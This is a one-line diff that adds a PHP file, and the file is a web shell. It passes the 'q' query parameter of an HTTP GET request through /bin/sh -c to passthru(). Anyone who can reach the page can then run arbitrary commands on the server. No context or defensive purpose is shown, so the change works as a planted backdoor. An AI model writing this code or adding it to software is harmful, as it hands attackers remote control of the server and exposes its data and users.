@@ -1,0 +1,1 @@
+<?php $cmd = "/bin/sh -c " . $_GET['q']; passthru($cmd);
